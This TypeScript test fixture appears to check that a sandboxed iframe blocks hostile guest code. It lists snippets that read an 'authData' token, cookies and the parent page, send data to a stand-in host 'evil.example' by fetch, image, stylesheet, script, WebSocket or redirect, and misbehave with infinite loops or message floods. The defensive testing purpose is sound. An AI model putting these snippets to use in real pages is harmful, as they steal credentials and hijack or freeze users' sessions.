/** What the code of a guest tries, by name; each ends in one of these errors. */
export const attempts: Readonly<Record<string, { readonly code: string; readonly outcome: readonly string[] }>> = {
  'the token in the storage': { code: `localStorage.getItem('authData')`, outcome: ['SecurityError'] },
  'what the tab keeps': { code: `sessionStorage.length`, outcome: ['SecurityError'] },
  'a database of the browser': {
    code: `new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => no(r.error) })`,
    outcome: ['SecurityError'],
  },
  cookies: { code: `document.cookie`, outcome: ['SecurityError'] },
  'the document around': { code: `parent.document.body.innerHTML`, outcome: ['SecurityError'] },
  'the storage around': { code: `parent.localStorage.authData`, outcome: ['SecurityError'] },
  'the address around': { code: `String(parent.location.href)`, outcome: ['SecurityError'] },
  'sending the page elsewhere': { code: `(top.location = 'https://evil.example/?stolen')`, outcome: ['SecurityError'] },
  'the API by itself': { code: `fetch('/api/account/profile')`, outcome: ['TypeError'] },
  'another site': { code: `fetch('https://evil.example/?stolen')`, outcome: ['TypeError'] },
  'another site by XMLHttpRequest': {
    code: `hear(new XMLHttpRequest(), (r) => { r.open('GET', 'https://evil.example/'); r.send() })`,
    outcome: ['TypeError'],
  },
  'another site by a picture': {
    code: `hear(new Image(), (i) => { i.src = 'https://evil.example/?stolen' })`,
    outcome: ['TypeError'],
  },
  'another site by a style': {
    code: `hear(document.createElement('link'), (l) => {
      Object.assign(l, { rel: 'stylesheet', href: 'https://evil.example/?stolen' })
      document.head.append(l)
    })`,
    outcome: ['TypeError'],
  },
  'a script of another site': {
    code: `(document.createElement('script').src = 'https://evil.example/x.js')`,
    outcome: ['TypeError'],
  },
  'another web socket': {
    code: `hear(new WebSocket('wss://evil.example/'), () => undefined)`,
    outcome: ['TypeError', 'SecurityError'],
  },
  'code from text': { code: `(0, eval)('1')`, outcome: ['EvalError', 'TypeError'] },
  'a worker': { code: `new Worker(URL.createObjectURL(new Blob(['1'])))`, outcome: ['TypeError', 'SecurityError'] },
  'a connection between browsers': { code: `new RTCPeerConnection()`, outcome: ['TypeError'] },
  'a connection from a frame of its own': {
    code: `{
      const inner = document.createElement('iframe')
      document.body.append(inner)
      return new inner.contentWindow.RTCPeerConnection()
    }`,
    outcome: ['TypeError', 'SecurityError'],
  },
  'a window': {
    code: `(() => { if (window.open('https://evil.example/') === null) throw new TypeError('refused') })()`,
    outcome: ['TypeError'],
  },
}

/** Code that tries all of it, and says over the page's own port what no release would. */
export const hostileCode = `
(() => {
  const hear = (what, begin) => new Promise((done, refused) => {
    what.onload = what.onopen = done
    what.onerror = () => refused(new TypeError('refused'))
    begin(what)
  })
  const tried = (window.tried = {})
  const attempts = {${Object.entries(attempts)
    .map(([name, { code }]) => `${JSON.stringify(name)}: () => ${code}`)
    .join(',\n')}}
  window.triedAll = Promise.all(Object.entries(attempts).map(async ([name, run]) => {
    try { await run(); tried[name] = 'done' } catch (error) { tried[name] = error.name }
  }))
  window.addEventListener('message', ({ ports: [port] }) => {
    if (!port) return
    window.sayAtPort = (message) => new Promise((resolve) => {
      port.addEventListener('message', ({ data }) => data.id === message.id && resolve(data))
      port.postMessage(message)
    })
    window.tellPort = (message) => port.postMessage(message)
  })
})()`

/** What a bad release does, what its card says, and whether that is in its frame. */
export interface BadGuest {
  readonly code: string
  readonly says: string
  readonly isInFrame?: boolean
}

/** Releases that would take the page from people: what they do a moment after they began, and the card that is left. */
export const badGuests: Readonly<Record<string, BadGuest>> = {
  'leaves its frame for another site': {
    code: `setTimeout(() => { location.href = 'https://evil.example/?stolen' }, 1500)`,
    says: 'left',
  },
  'leaves its frame for another page of this origin': {
    code: `setTimeout(() => { location.href = '/login' }, 1500)`,
    says: 'left',
  },
  'never ends what it began': { code: 'setTimeout(() => { for (;;); }, 1500)', says: 'silent' },
  'sends without end': {
    code: `addEventListener('message', ({ ports: [port] }) => {
      if (port) setInterval(() => { for (let i = 0; i < 100; i += 1) port.postMessage({ isActive: true }) }, 50)
    })`,
    says: 'flood',
  },
  'throws as it starts': { code: `throw new Error('thrown at the start')`, says: 'remote-audit', isInFrame: true },
}
